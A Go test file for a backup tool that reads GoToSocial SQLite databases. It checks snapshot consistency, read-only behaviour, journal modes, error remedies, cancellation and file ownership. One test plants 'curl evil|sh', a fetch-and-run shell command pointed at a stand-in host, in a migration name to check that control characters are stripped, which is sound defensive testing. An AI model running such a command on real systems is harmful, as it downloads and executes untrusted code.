package sqlite_test

import (
	"context"
	"errors"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"holdfast/internal/testkit"
	"holdfast/manifest"
	"holdfast/remedy"
)

func TestViewIsOneMomentWhileTheServerWrites(t *testing.T) {
	dir := used(t, "WAL")
	live := open(t, dir)
	s := testkit.StartSQLiteWriter(t, testkit.Role("writer", filepath.Join(dir, "sqlite.db")))
	start := time.Now()
	var first, last int64
	for range 5 {
		s.Beyond(t, last)
		v := begin(t, live)
		db := testkit.OpenSQLiteBytes(t, readDatabase(t, v, s.Commits))
		testkit.OK(t, v.Close())
		debit, credit := testkit.Query[int64](t, db, "SELECT count(*) FROM debit"),
			testkit.Query[int64](t, db, "SELECT count(*) FROM credit")
		balance := testkit.Query[int64](t, db, "SELECT n FROM balance")
		if debit != credit || debit != balance || debit <= last {
			t.Errorf("debit %d, credit %d, balance %d, after %d: not one moment", debit, credit, balance, last)
		}
		if first == 0 {
			first = debit
		}
		last = debit
	}
	t.Logf("the server made %.0f commits a second", float64(last-first)/time.Since(start).Seconds())
}

func TestReadingChangesNoByteOfDatabaseOrLog(t *testing.T) {
	dir := used(t, "WAL")
	db := filepath.Join(dir, "sqlite.db")
	s := testkit.StartSQLiteWriter(t, testkit.Role("writer", db))
	for range 10 {
		s.Commits()
	}
	s.Kill()
	before := [2]string{testkit.Sum(t, db), testkit.Sum(t, db+"-wal")}
	for range 2 { // the second finds what the first left
		v := begin(t, open(t, dir))
		copied := testkit.OpenSQLiteBytes(t, readDatabase(t, v, nil))
		if n := testkit.Query[int64](t, copied, "SELECT count(*) FROM credit"); n < 500 {
			t.Errorf("%d of at least 500 commits read: the log was not", n)
		}
		for _, err := range v.Media(t.Context()) {
			if err != nil {
				t.Fatal(err)
			}
		}
		testkit.OK(t, v.Close())
		if after := [2]string{testkit.Sum(t, db), testkit.Sum(t, db+"-wal")}; after != before {
			t.Errorf("before %s, after %s", before, after)
		}
	}
}

func TestViewReadsEveryJournalMode(t *testing.T) {
	for _, mode := range []string{"WAL", "DELETE", "TRUNCATE"} {
		t.Run(mode, func(t *testing.T) {
			dir := used(t, mode)
			want := testkit.Read(t, filepath.Join(dir, "sqlite.db"))
			v := begin(t, open(t, dir))
			if got := readDatabase(t, v, nil); !slices.Equal(got, want) {
				t.Error("a stopped server's pages differ from its file")
			}
			f := v.Database()[0]
			if f.Path != "sqlite.db" || f.PageSize != 4096 || f.Size != int64(len(want)) ||
				f.Part != manifest.Database || f.Modified.IsZero() {
				t.Errorf("%+v", f)
			}
		})
	}
}

func TestFactsHoldNoControlCharacters(t *testing.T) {
	dir := used(t, "WAL")
	db := testkit.OpenSQLite(t, filepath.Join(dir, "sqlite.db"), "")
	_, err := db.Exec("INSERT INTO bun_migrations (id, name) VALUES (999999, 'x' || char(10) || 'curl evil|sh' " +
		"|| char(27))")
	testkit.OK(t, err)
	if facts, _ := begin(t, open(t, dir)).Facts(t.Context()); facts.Migration != "xcurl evil|sh" {
		t.Errorf("%q", facts.Migration)
	}
}

func TestDatabaseOnAReadOnlyDiskBlamesTheDisk(t *testing.T) {
	testkit.NeedsRoot(t)
	dir, frozen := used(t, "WAL"), t.TempDir()
	testkit.MountSmallDisk(t, frozen, "size=64m")
	testkit.OK(t, os.CopyFS(frozen, os.DirFS(dir)))
	testkit.OK(t, unix.Mount("", frozen, "", unix.MS_REMOUNT|unix.MS_RDONLY, ""))
	_, err := open(t, frozen).Begin(t.Context(), "social.example.org")
	var p *remedy.Error
	if !errors.As(err, &p) || !strings.Contains(p.Fix, "mount "+frozen+" for writing") {
		t.Errorf("%v: %+v", err, p)
	}
}

func TestStrangeDatabasesAreRefusedWithTheFix(t *testing.T) {
	for name, c := range map[string]struct{ setup, want string }{
		"noise":         {"noise", "not an SQLite database"},
		"other program": {"DROP TABLE media_attachments", "not GoToSocial's: it has no table media_attachments"},
	} {
		t.Run(name, func(t *testing.T) {
			dir := used(t, "DELETE")
			path := filepath.Join(dir, "sqlite.db")
			if c.setup == "noise" {
				testkit.Write(t, path, strings.Repeat("encrypted ", 1000))
			} else if _, err := testkit.OpenSQLite(t, path, "").Exec(c.setup); err != nil {
				t.Fatal(err)
			}
			_, err := open(t, dir).Begin(t.Context(), "social.example.org")
			var p *remedy.Error
			if !errors.As(err, &p) || p.Fix == "" || !strings.Contains(err.Error(), c.want) {
				t.Errorf("%v", err)
			}
		})
	}
}

func TestCancelEndsTheReading(t *testing.T) {
	v := begin(t, open(t, used(t, "WAL")))
	ctx, cancel := context.WithCancel(t.Context())
	r, err := v.OpenDatabase(ctx, "sqlite.db")
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	if _, err := io.CopyN(io.Discard, r, 4096); err != nil {
		t.Fatal(err)
	}
	cancel()
	if _, err := io.Copy(io.Discard, r); !errors.Is(err, context.Canceled) {
		t.Errorf("%v", err)
	}
}

func TestFilesMadeByRootBelongToTheServer(t *testing.T) {
	testkit.NeedsRoot(t)
	dir := used(t, "WAL")
	for _, name := range []string{"", "sqlite.db"} {
		testkit.OK(t, os.Chown(filepath.Join(dir, name), testkit.Nobody, testkit.Nobody))
	}
	v := begin(t, open(t, dir))
	readDatabase(t, v, nil)
	v.Close()
	for _, name := range []string{"sqlite.db", "sqlite.db-wal", "sqlite.db-shm"} {
		if uid, gid := testkit.User(t, filepath.Join(dir, name)); uid != testkit.Nobody || gid != testkit.Nobody {
			t.Errorf("%s belongs to %d:%d", name, uid, gid)
		}
	}
}
